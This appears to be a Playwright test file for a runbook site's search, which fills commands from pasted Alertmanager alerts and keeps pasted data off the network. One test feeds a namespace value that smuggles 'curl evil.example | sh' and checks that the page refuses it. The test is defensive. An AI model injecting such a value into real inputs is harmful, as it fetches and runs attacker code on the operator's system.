import { expect, type Page, test } from 'playwright/test';
import { readContent } from '#io/read-content.ts';
import { at, catalog, one, runbookOf } from '#tests/built-site.ts';
import { relevanceTable } from '#tests/relevance.ts';

const box = (page: Page) => page.locator('search-box input');
const results = (page: Page) => page.locator('[data-result] a');
const done = (page: Page) =>
  expect(page.getByRole('listbox', { name: 'Results' })).toHaveAttribute('aria-busy', 'false');
const alert = one(
  catalog.alerts.find((each) => each.runbookUrl.includes('namespace=')),
  'alert with a namespace',
);
const slot = (page: Page, name: string) => page.locator(`[data-parameter="${name}"]`).first();

/** Pastes as a reader does: the browser's own event, with the text as it was copied. */
async function paste(page: Page, text: string): Promise<void> {
  await box(page).focus();
  await box(page).evaluate((input, copied) => {
    const data = new DataTransfer();
    data.setData('text/plain', copied);
    const event = new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true });
    if (input.dispatchEvent(event)) document.execCommand('insertText', false, copied);
  }, text);
}

test('a notification of Alertmanager opens the page with its commands filled in', async ({ page }) => {
  await page.goto(at('/'));
  const labels = { alertname: alert.name, namespace: 'prod-7' };
  await paste(
    page,
    JSON.stringify(
      { version: '4', alerts: [{ status: 'firing', labels, startsAt: '2026-11-20T03:12:00Z' }] },
      null,
      2,
    ),
  );
  await expect(page.locator('search-box')).toContainText('Alertmanager notification: 1 alert');
  await expect(box(page)).toHaveValue(alert.name);
  await expect(results(page).first()).toContainText('namespace=prod-7');
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL((url) => url.pathname.endsWith(runbookOf(alert).path));
  await expect(slot(page, 'namespace')).toHaveText('prod-7');
  await expect(slot(page, 'namespace')).toHaveAttribute('data-state', 'filled');
});

test('a hostile value of a notification is refused by the page, and nothing is filled', async ({ page }) => {
  await page.goto(at('/'));
  const labels = { alertname: alert.name, namespace: 'prod; curl evil.example | sh #' };
  await paste(page, JSON.stringify([{ labels }]));
  await results(page).first().click();
  await expect(slot(page, 'namespace')).toHaveAttribute('data-state', 'refused');
  await expect(page.locator('figure[data-command] code').first()).not.toContainText('evil.example');
});

test('several alerts stand in their order, and one without a page is named', async ({ page }) => {
  const [first, second] = [one(catalog.alerts[3], 'alert'), one(catalog.alerts[1], 'alert')];
  await page.goto(at('/'));
  await paste(
    page,
    `[FIRING:3] three\nLabels:\n - alertname = ${first.name}\nLabels:\n - alertname = NobodyKnowsThis\nLabels:\n - alertname = ${second.name}\n`,
  );
  await expect(page.locator('search-box')).toContainText('No page for: NobodyKnowsThis');
  await expect(results(page).nth(0)).toContainText(first.name);
  await expect(results(page).nth(1)).toContainText(second.name);
});

test('a log line is searched for by the words that matter', async ({ page }) => {
  await page.goto(at('/'));
  await paste(page, '2026-03-01 03:11:58.402 UTC [4711] FATAL:  sorry, too many clients already\n');
  await expect(page.locator('search-box')).toContainText('Log line. Searched for:');
  await expect(results(page).first()).toContainText('too many clients already');
});

test('what I paste goes nowhere: no request carries it, nor does the address', async ({ page }) => {
  const secret = 'topsecretnamespace';
  const asked: string[] = [];
  page.on('request', (request) => asked.push(`${request.url()} ${request.postData() ?? ''}`));
  await page.goto(at('/search/'));
  await paste(page, JSON.stringify([{ labels: { alertname: alert.name, namespace: secret } }]));
  await done(page);
  await box(page).fill(`${secret} is down`);
  await done(page);
  expect(asked.filter((request) => request.includes(secret))).toEqual([]);
  expect(asked.filter((request) => !request.startsWith(new URL(page.url()).origin))).toEqual([]);
});

test('what I type stands in the address, to be shared; what I paste does not', async ({ page }) => {
  await page.goto(at('/search/'));
  await box(page).fill('redis is slow');
  await expect(page).toHaveURL(/\/search\/\?q=redis\+is\+slow$/);
  await paste(page, `a\n${JSON.stringify([{ labels: { alertname: alert.name } }])}`);
  await expect(page).toHaveURL(/\/search\/$/);
});

test('a typing error is forgiven', async ({ page }) => {
  await page.goto(at('/search/'));
  const name = alert.name;
  await box(page).fill(name.slice(0, 4) + name.slice(5));
  await expect(results(page).first()).toContainText(name);
});

test('the full text comes below: what stands above stays, and what was chosen stays chosen', async ({
  page,
}) => {
  let letGo = () => {};
  const held = new Promise<void>((resolve) => {
    letGo = resolve;
  });
  await page.route('**/pagefind/**', async (route) => {
    await held;
    await route.continue();
  });
  await page.goto(at('/search/'));
  await box(page).focus();
  await page.keyboard.type('database');
  await expect(results(page).nth(2)).toBeVisible();
  await page.keyboard.press('ArrowDown');
  const before = await results(page).evaluateAll((all) =>
    all.map((link) => [link.id, link.getBoundingClientRect().top]),
  );
  const chosen = await box(page).getAttribute('aria-activedescendant');
  letGo();
  await done(page);
  const after = await results(page).evaluateAll((all) =>
    all.map((link) => [link.id, link.getBoundingClientRect().top]),
  );
  expect(after.slice(0, before.length)).toEqual(before);
  expect(after.length).toBeGreaterThan(before.length);
  expect(await box(page).getAttribute('aria-activedescendant')).toBe(chosen);
  const hrefs = await results(page).evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
  expect(new Set(hrefs).size).toBe(hrefs.length);
});

test('names are found when the full text cannot be had, and the page says so', async ({ page }) => {
  await page.route('**/pagefind/**', (route) => route.abort());
  await page.goto(at(`/search/?q=${alert.name}`));
  await expect(results(page).first()).toContainText(alert.name);
  await expect(page.locator('search-box')).toContainText('could not be loaded');
});

test('the full text is searched when the names cannot be had', async ({ page }) => {
  await page.route('**/search/index.txt', (route) => route.abort());
  await page.goto(at('/search/?q=redis'));
  await expect(results(page).first()).toBeVisible();
});

test('what is on no page finds nothing in either stage, and says whom to call', async ({ page }) => {
  test.slow();
  await page.goto(at('/search/'));
  const { catalog: content, sources } = readContent();
  // The table speaks of names and symptoms; a guide may show one of its words as an example.
  const nowhere = relevanceTable(content).nothing.filter(
    (words) => !sources.some(({ text }) => text.includes(words)),
  );
  for (const words of nowhere.slice(0, 12)) {
    await box(page).fill(words);
    await done(page);
    await expect(page.locator('[data-no-match]'), words).toBeVisible();
    await expect(results(page), words).toHaveCount(0);
  }
  await page.locator('[data-no-match] a[href$="/severities/"]').click();
  await expect(page.locator('h1')).toContainText('escalation');
});

test('a name near the one I typed is offered, and asked with one press', async ({ page }) => {
  const { name: meant } = alert;
  const asked = `${meant.slice(0, 2)}zxzx${meant.slice(6)}`.toLowerCase();
  await page.goto(at(`/search/?q=${asked}`));
  const near = page.locator('[data-no-match] a').first();
  await expect(near).toBeVisible();
  const name = await near.innerText();
  await near.click();
  await expect(box(page)).toHaveValue(name);
  await expect(results(page).first()).toContainText(name);
});

test('a missing page has its words in the search box', async ({ page }) => {
  await page.goto(at('/runbooks/redis-evictions-are-many/'));
  await expect(box(page)).toHaveValue('redis evictions are many');
  await expect(results(page).first()).toBeVisible();
});

test('a browser can make it its search engine', async ({ page, request }) => {
  await page.goto(at('/'));
  const href = one((await page.locator('link[rel="search"]').getAttribute('href')) ?? undefined, 'link');
  const response = await request.get(new URL(href, page.url()).href);
  expect(response.status()).toBe(200);
  expect(await response.text()).toContain(`${catalog.base}/search/?q={searchTerms}`);
});

test('on a phone the search fills the screen, and every result is a target for a thumb', async ({ page }) => {
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto(at(runbookOf(alert).path));
  await page.locator('[data-open-search]').click();
  await box(page).fill('database');
  await expect(results(page).first()).toBeVisible();
  const dialog = one((await page.locator('dialog').boundingBox()) ?? undefined, 'dialog');
  expect([dialog.x, dialog.y, dialog.width, dialog.height]).toEqual([0, 0, 360, 740]);
  for (const target of [
    results(page).first(),
    page.locator('dialog select').first(),
    page.getByRole('button', { name: 'Close search' }),
  ])
    expect((await target.boundingBox())?.height).toBeGreaterThanOrEqual(44);
});

test('a result on the same page closes the search and leads there', async ({ page }) => {
  const runbook = runbookOf(alert);
  await page.goto(at(runbook.path));
  await page.keyboard.press('/');
  await box(page).fill(alert.name);
  await expect(results(page).first()).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(page.locator('dialog')).not.toBeVisible();
  await expect(page).toHaveURL(
    (url) => url.pathname.endsWith(runbook.path) && url.hash === `#${alert.anchor}`,
  );
});

test('a screen reader hears a combobox, its groups and how many results there are', async ({ page }) => {
  await page.goto(at('/search/'));
  await box(page).fill(alert.name);
  await done(page);
  await expect(page.getByRole('combobox', { name: /Search by symptom/ })).toHaveAttribute(
    'aria-expanded',
    'true',
  );
  await expect(
    page.getByRole('group', { name: 'By name and symptom' }).getByRole('option').first(),
  ).toContainText(alert.name);
  await expect(page.getByRole('status')).toContainText(/\d+ results?/);
});
